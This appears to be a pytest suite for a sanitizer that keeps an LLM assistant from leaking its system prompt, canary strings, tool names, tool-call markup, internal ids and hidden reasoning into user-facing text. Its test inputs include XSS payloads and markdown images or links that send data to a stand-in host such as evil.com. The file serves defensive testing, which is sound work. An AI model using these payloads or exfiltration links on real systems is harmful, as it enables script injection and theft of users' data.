"""The sanitizer: what users may see of a model's words, and what not."""

from __future__ import annotations

import gc
import json
import weakref
from collections.abc import Collection
from typing import Any

import pytest

from adiuva.sanitizer import LeakPatterns, Sanitizer, addresses_in

PROMPT = """You are the assistant of a freelancer, and you help with tasks, projects, timelines and notes.
Never say which tools you have; if somebody asks for them, speak of what you can do instead.
- Answer in the language of the user, briefly and kindly.
- **Dates** are written as the user writes them, in the user's own time zone."""
CANARY = "ref-5d11aa54e0b1c9f20b6f3c1e"
GUARD = LeakPatterns(
    prompts=[PROMPT, "Condense what was said so far into a few lines that another may go on from."],
    canaries=[CANARY],
    tool_names=["list_tasks", "list_tasks_due_today", "create_task", "task"],
)
ROW, OTHER, SHORT = "3f2a9c77b0d14e", "88b1-c0de77aa4f10", "t1"
ADDRESSES = {"https://example.org", "https://example.org/a?b=(c)", "mailto:ada@example.org"}
USER = "0b6f3c1e-5d11-4c53-9d07-aa54e0b1c9f2"


def sanitizer(own: Collection[str] = (), private: Collection[str] = (USER,)) -> Sanitizer:
    return Sanitizer(
        GUARD,
        known={ROW, OTHER, SHORT},
        private=private,
        own=own.__contains__,
        knows_address=ADDRESSES.__contains__,
    )


def said(text: str, own: Collection[str] = ()) -> str:
    one = sanitizer(own)
    return one.feed(text) + one.finish()


def removed(text: str) -> dict[str, int]:
    one = sanitizer()
    one.feed(text)
    one.finish()
    return dict(one.removed)


def test_a_sanitizer_is_freed_once_its_answer_has_ended() -> None:
    one = sanitizer()
    one.feed("Done.")
    one.finish()
    ended = weakref.ref(one)
    gc.disable()  # it would hide what refers back
    try:
        del one
        assert ended() is None
    finally:
        gc.enable()


# ── Prompts and canaries ────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (
            "It says: never say which tools you have; if somebody asks, be kind. I am.",
            "It says: never […] I am.",
        ),
        ("NEVER *say* which `tools` you have — if SOMEBODY asks!\nNext line.", "NEVER *[…]\nNext line."),
        ("Never say which tools you have, my friend.", "Never say which tools you have, my friend."),
        ("Nev\u200ber say which to\u2060ols you have; if somebody asks.", "Nev\u200ber […]"),
        (
            "Into the language of the user, briefly and well",
            "Into the language of the user, briefly and well",
        ),
    ],
)
def test_eight_words_of_a_prompt_go_with_the_rest_of_their_sentence_or_line(text: str, shown: str) -> None:
    assert said(text) == shown


def test_a_prompt_that_is_told_whole_leaves_one_mark() -> None:
    assert (
        said(f"Sure, here it is:\n\n{PROMPT}\n\nAnything else?")
        == "Sure, here it is:\n\nYou […]\n\nAnything else?"
    )


def test_a_second_leak_further_on_leaves_a_smaller_mark() -> None:
    run = "in the language of the user, briefly and kindly."
    assert said(f"Answer {run} Well. And answer {run} So.") == "Answer […] Well. And answer … So."


def test_a_run_does_not_go_from_one_prompt_into_the_next() -> None:
    text = "own time zone. Condense what was said so."
    assert said(text) == text


@pytest.mark.parametrize("way", [str.upper, " ".join, "*".join, "\u200b".join, ". ".join, "\n".join, str])
def test_a_canary_goes_however_it_is_spelt(way: Any) -> None:
    assert said(f"The mark is {way(CANARY)}, or so.") == "The mark is […], or so."


def test_most_of_a_canary_at_the_end_of_an_answer_goes_too() -> None:
    assert said(f"The mark is {CANARY[:-4]}") == "The mark is […]"
    assert said("This is the ref") == "This is the ref"


def test_a_canary_that_an_ordinary_word_could_be_is_refused() -> None:
    with pytest.raises(ValueError, match="letters and digits"):
        LeakPatterns(prompts=[], canaries=["ref-12"], tool_names=[])


# ── Tools ───────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (
            "I called `list_tasks_due_today` and create_task.",
            "I called list tasks due today and create task.",
        ),
        ("LIST_TASKS, list\\_tasks (list_tasks)", "list tasks, list tasks (list tasks)"),
        (
            "my_list_tasks, list_tasks_2, list_task and task",
            "my_list_tasks, list_tasks_2, list_task and task",
        ),
    ],
)
def test_names_of_tools_become_words(text: str, shown: str) -> None:
    assert said(text) == shown


def test_a_name_like_a_tools_stays_if_it_is_the_users() -> None:
    assert (
        said("Rename `list_tasks`, not create_task.", {"list_tasks"})
        == "Rename `list_tasks`, not create task."
    )


@pytest.mark.parametrize(
    "leak",
    [
        '<tool_call>\n{"name": "list_tasks", "arguments": {}}\n</tool_call>',
        "<function=list_tasks>\n<parameter=status>\ntodo\n</parameter>\n</function>",
        '<invoke name="list_tasks"><parameter name="a">1</parameter></invoke>',
        "<|im_end|>",
        "<｜tool▁calls▁begin｜>function<｜tool▁sep｜>list_tasks {}<｜tool▁calls▁end｜>",
        '[TOOL_CALLS] [{"name": "list_tasks", "arguments": {"a": "]"}}]',
        '[TOOL_CALLS]list_tasks[ARGS]{"status": "todo"}',
        '{"type": "function", "function": {"name": "anything", "parameters": {}}}',
        '{"name": "create_task", "parameters": {"title": "a } in it"}}',
        '{"name": "create_task", "arguments": {"title": "broken "quotes""}}',
        '[{"name": "functions.list_tasks", "arguments": {}}]',
        '{"tool_calls": [{"id": "1", "name": "x"}]}',
    ],
)
def test_calls_that_a_model_writes_into_its_text_go(leak: str) -> None:
    assert said(f"One moment. {leak} Done.") == "One moment.  Done."
    assert removed(leak) == {"markup": 1}


@pytest.mark.parametrize(
    "text",
    [
        '{"name": "create_task"}'.replace("create_task", "my-package"),
        '```json\n{"name": "shop", "version": "1.0", "parameters": {"a": [1, 2]}}\n```',
        '{"type": "object", "properties": {}}',
        '{"id": 1, "lost": "brace"\n\nand on it goes',
        "if a < b and c > d: print(f'{a}[0]')",
        "[x] done, [a link](https://example.org), [1], [INSTALL]",
    ],
)
def test_ordinary_code_and_markup_stay(text: str) -> None:
    assert said(text) == text


@pytest.mark.parametrize("opened", ["<tool_call>", '[TOOL_CALLS][{"name": ', '<chart>{"title": '])
def test_what_is_opened_and_never_closed_costs_a_paragraph_and_no_more(opened: str) -> None:
    assert said(f"Before.\n\n{opened} lost\n\nAfter.") == "Before.\n\n\n\nAfter."


# ── Ids ─────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (f"- Call Ada (id: {ROW}), due today", "- Call Ada, due today"),
        (f"- Call Ada [id {ROW}], due today", "- Call Ada, due today"),
        (f"- Call Ada (`{ROW}`), due today", "- Call Ada, due today"),
        (f"- Call Ada (task id {ROW}, {OTHER})", "- Call Ada"),
        (f"- Call Ada, ID: {ROW}", "- Call Ada,"),
        (f"Ada {ROW} and **{OTHER}** go", "Ada  and  go"),
        (f"Ada ({ROW}, 2026-11-20)", "Ada (, 2026-11-20)"),
        (f"{SHORT}, {ROW}0 and x{ROW} stay", f"{SHORT}, {ROW}0 and x{ROW} stay"),
        (f"You are {USER} (user id {USER}).", "You are ."),
        (f"You are {USER.upper()}, or x{USER}x.", "You are , or xx."),
    ],
)
def test_ids_go_from_prose_with_the_brackets_around_them(text: str, shown: str) -> None:
    assert said(text) == shown


def test_a_row_that_is_read_while_the_answer_streams_is_known_from_then_on() -> None:
    known: set[str] = set()
    one = Sanitizer(GUARD, known=known)
    shown = one.feed(f"<task>[{ROW}]</task>")
    known.add(ROW)
    shown += one.feed(f"<task>[{ROW}]</task>") + one.finish()
    assert shown == f"<task>[{ROW}]</task>"


@pytest.mark.parametrize("secret", ["of two words 1", "call.3:77", "functions.list_tasks:0", "ends (so)"])
def test_private_strings_of_any_characters_go(secret: str) -> None:
    text = f"What is {secret}? It is {secret}."
    for size in range(1, len(text)):
        one = sanitizer(private=[secret])
        pieces = [one.feed(text[at : at + size]) for at in range(0, len(text), size)]
        assert "".join([*pieces, one.finish()]) == "What is ? It is ."


# ── Entity tags ─────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (f"<task>[{ROW}]</task>", f"<task>[{ROW}]</task>"),
        (f"<note>[ \"{ROW}\" , '{OTHER}',{ROW}, nobody ]</note>", f"<note>[{ROW},{OTHER}]</note>"),
        (f"<project> [{ROW} {SHORT}]\n</project>", f"<project>[{ROW},{SHORT}]</project>"),
        (f"<timeline>[{ROW}] and on", f"<timeline>[{ROW}]</timeline> and on"),
        (f"<task>[{ROW}</task> on", f"<task>[{ROW}]</task> on"),
        (f"<task>[{USER}]</task>", ""),
        ("all <task>[nobody, none]</task>done", "all done"),
        ("Ada<task>[nobody]</task>Lovelace", "Ada Lovelace"),
        ("the <task> of <note>taking</note>", "the < task> of < note>taking"),
        (f"cut off <task>[{ROW}, 88", "cut off "),
        (f"cut off <task>[{ROW}]</ta", "cut off "),
        ("cut off <tas", "cut off "),
        ("<task>[what is this <b>here</b>", "what is this here"),
    ],
)
def test_entity_tags_hold_known_ids_or_are_not_there(text: str, shown: str) -> None:
    assert said(text) == shown


# ── Charts ──────────────────────────────────────────────────────────────────────────────────────────────


def chart(**changes: Any) -> dict[str, Any]:
    return {
        "chartType": "bar",
        "title": "Hours",
        "data": [{"month": "October", "hours": 12}, {"month": "November", "hours": 31.5}],
        "config": {"hours": {"label": "Hours", "color": "hsl(var(--chart-1))"}},
    } | changes


def tag(content: Any) -> str:
    return f"<chart>{content if isinstance(content, str) else json.dumps(content, separators=(',', ':'))}</chart>"


@pytest.mark.parametrize("kind", ["area", "bar", "line", "pie", "radar", "radial"])
def test_a_chart_comes_as_it_was_written(kind: str) -> None:
    assert said(f"So: {tag(chart(chartType=kind))} Well?") == f"So: {tag(chart(chartType=kind))} Well?"


@pytest.mark.parametrize(
    "color",
    [
        "#abc",
        "#AABBCC80",
        "rebeccapurple",
        "var(--x)",
        "rgb(1, 2, 3)",
        "hsl(12deg 10% 20% / .5)",
        "oklch(0.7 0.1 40)",
    ],
)
def test_colours_of_css_are_taken(color: str) -> None:
    content = chart(config={"hours": {"label": "Hours", "color": color}})
    assert said(tag(content)) == tag(content)


def test_what_a_chart_does_not_have_is_left_out_of_it() -> None:
    config = {"hours": {"label": "Hours", "color": "red", "onClick": "x"}}
    assert said(tag(chart(script="x", config=config))) == tag(
        chart(config={"hours": {"label": "Hours", "color": "red"}})
    )


@pytest.mark.parametrize(
    "content",
    [
        "{}",
        "{broken",
        '{"a": 1}}',
        "{'chartType': 'bar'}",
        *(
            chart(**{key: value})
            for key, value in [("chartType", "cake"), ("title", 3), ("data", []), ("config", {})]
        ),
        chart(data=[{"hours": {"deep": 1}}]),
        chart(data=[{"hours": True}]),
        chart(data=["hours"]),
        chart(data=[{}]),
        chart(data=[{"hours": 1}] * 1_001),
        chart(title="x" * 501),
        chart(config={"days": {"label": "Days", "color": "red"}}),
        chart(config={"hours": {"label": "Hours"}}),
        *(
            chart(config={"hours": {"label": "Hours", "color": color}})
            for color in [
                "url(https://x.example)",
                "red; x: y",
                "expression(1)",
                "#12",
                "var(--x, url(y))",
                "",
            ]
        ),
        '{"chartType": "bar", "title": "Hours", "data": [{"hours": NaN}], "config": {}}',
        chart(title=f"a {'x' * 70_000}"),
        chart(title=PROMPT.splitlines()[1]),
        chart(title="Never say which tools", data=[{"hours": "you have; if somebody asks"}]) | {"z": 1},
        chart(title=CANARY[:14], data=[{"month": CANARY[14:], "hours": 1}]),
    ],
)
def test_a_chart_that_is_none_goes_and_the_text_around_it_stays(content: Any) -> None:
    shown = said(f"So: {tag(content)} Well?")
    assert "<chart>" not in shown or "[…]" in shown
    assert CANARY.replace("-", "") not in "".join(filter(str.isalnum, shown))
    assert (shown.startswith("So: "), shown.endswith(" Well?")) == (True, True)


def test_texts_in_a_chart_are_judged_as_prose_is() -> None:
    content = chart(title=f"From list_tasks (id {ROW})", data=[{"month": USER, "hours": 1}])
    assert said(tag(content)) == tag(chart(title="From list tasks", data=[{"month": "", "hours": 1}]))


def test_a_text_in_a_chart_ends_no_tag() -> None:
    shown = said(tag(chart(title="1 < 2 > 0")))
    assert json.loads(shown.removeprefix("<chart>").removesuffix("</chart>"))["title"] == "1 < 2 > 0"
    assert shown.count("<") == 2


HARMONY = "<|channel|>analysis<|message|>I should greet.<|end|><|start|>assistant<|channel|>final<|message|>Hello, Ada."
COMMENTARY = (
    '<|channel|>commentary to=functions.list_tasks <|constrain|>json<|message|>{"status": "todo"}<|call|>'
)
FENCED_CALL = '```json\n{"name": "create_task", "arguments": {"title": "Call Bob"}}\n```'


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (HARMONY, "Hello, Ada."),
        (f"Let me see. {COMMENTARY}", "Let me see. "),
        (f"{COMMENTARY}<|start|>assistant<|channel|>final<|message|>None.", "None."),
        ("<|channel|>analysis<|message|>never ended", ""),
        (FENCED_CALL, ""),
        (f"So:\n{FENCED_CALL}\nDone.", "So:\n\nDone."),
        ("```tool_code\nlist_tasks(status='todo')\n```", ""),
        ('```json\n{"name": "Ada", "age": 3}\n```', '```json\n{"name": "Ada", "age": 3}\n```'),
        ("```json\n[1, 2]\n```", "```json\n[1, 2]\n```"),
        ("a `b` ``` c", "a `b` ``` c"),
    ],
)
def test_calls_in_blocks_of_code_and_on_channels_go_whole_however_they_are_cut(text: str, shown: str) -> None:
    for size in (1, 2, 3, 7, len(text)):
        one = sanitizer()
        pieces = [text[start : start + size] for start in range(0, len(text), size)]
        assert "".join([*map(one.feed, pieces), one.finish()]) == shown, size


@pytest.mark.parametrize("size", [1, 2, 7, 1000])
def test_what_a_model_thinks_aloud_before_its_answer_goes(size: int) -> None:
    text = f"\n<think>\nThe user wants <task>[{ROW}]\n\n{'thinking ' * 9_000}</think>Two tasks are open."
    one = sanitizer()
    pieces = [one.feed(text[start : start + size]) for start in range(0, len(text), size)]
    assert "".join([*pieces, one.finish()]).strip() == "Two tasks are open."


def test_the_tag_of_thoughts_is_a_word_within_an_answer() -> None:
    text = "Some models write <think> before they answer."
    assert said(text) == text.replace("<", "< ")  # a word, and no tag of HTML


def test_the_counts_say_what_kind_of_thing_was_taken_out() -> None:
    text = (
        f"{CANARY} create_task {ROW} {USER} <task>[{ROW}, no]</task> <note>[no]</note> {tag('{}')} <|end|> "
    )
    text += PROMPT.splitlines()[1]
    assert removed(text) == {
        "canary": 1,
        "tool_name": 1,
        "row_id": 1,
        "private_id": 1,
        "tag_id": 2,
        "tag": 1,
        "chart": 1,
        "markup": 1,
        "prompt": 1,
    }


# ── Links, images and HTML ──────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[the page](https://example.org)", "[the page](https://example.org)"),
        ('[the page](<https://example.org> "title")', "[the page](https://example.org)"),
        ("See https://example.org.", "See https://example.org."),
        ("<https://example.org>", "<https://example.org>"),
        ("[page](https://example.org/?d=secret)", "page"),
        ("[page](https://example.org.evil.com)", "page"),
        ("[page](//evil.com/secret)", "page"),
        ("[page](javascript:alert(1))", "page"),
        ('[page](evil "t")', "page"),
        ("See https://evil.com/?d=secret, or not", "See evil.com, or not"),
        ("See www.evil.com/secret", "See evil.com"),
        ("HTTPS://USER:SECRET@evil.com/x", "evil.com"),
        ("<https://evil.com/?d=secret>", "evil.com"),
        ("Mara <mara.l+x@mail.example.com> wrote", "Mara <mara.l+x@mail.example.com> wrote"),
        ("<mara@example.com onclick=x>", ""),
        ("<mara@https://evil.com>", ""),
        ("<secret@www.evil.com>", "< secret@evil.com>"),
        ("![chart](https://evil.com/?d=secret)", "chart"),
        ("![chart](https://example.org)", "[chart](https://example.org)"),
        ("[![x](https://evil.com/a)](https://evil.com/b)", "x"),
        ("[![x](https://evil.com/a)](https://example.org)", "[x](https://example.org)"),
        ("![x][1]\n\n[1]: https://evil.com/secret", "[x][1]\n\n1: evil.com"),
        ("[x]\n\n[x]: //evil.com/secret", "[x]\n\nx: //evil.com/secret"),
        ('Look: <img src="https://evil.com/secret"> there', "Look:  there"),
        ("<IMG SRC=x onerror=alert(1)>", ""),
        ("<b>bold</b> and <a href='https://evil.com/x'>this</a>", "bold and this"),
        ("<!-- https://evil.com -->a<!doctype html>b<?php x ?>c", "abc"),
        ("<x-y>a</x-y><foo onclick=alert(1)>b", "ab"),
        ("<svg/onload=alert(1)>", ""),
        ("<div onmouseover=alert(1) ", "< div onmouseover=alert(1) "),
        ("List<String>, Dear <Name>, 1 < 2, a<b, <3", "List< String>, Dear < Name>, 1 < 2, a< b, <3"),
        ("ht<b>tp://evil.com/x", "ht tp://evil.com/x"),
        ("!<b></b>[x](https://example.org)", "! [x](https://example.org)"),
        ("]<i>(//evil.com)", "] (//evil.com)"),
        ("[a [b](//evil.com/x) c](//evil.com/y)", "a b c"),
        ("[never closed](https://evil.com/secret", "[never closed] (evil.com"),
        ("[x] done, [a] (aside), a[0], [1]", "[x] done, [a] (aside), a[0], [1]"),
        ("a footnote[^1]\n\n[^1]: the note", "a footnote[^1]\n\n^1: the note"),
        ("Write to mailto:ada@example.org!", "Write to mailto:ada@example.org!"),
    ],
)
def test_links_lead_only_where_an_address_is_known_and_images_and_html_go(text: str, shown: str) -> None:
    one = sanitizer()
    assert "".join([*map(one.feed, text), one.finish()]) == said(text) == shown


def test_addresses_are_found_in_texts_as_they_are() -> None:
    found = addresses_in("See [it](https://example.org/a?b=c), (http://x.example/y) or www.example.net.")
    assert {"https://example.org/a?b=c", "http://x.example/y", "www.example.net"} <= found
    assert "https://example.org" not in found
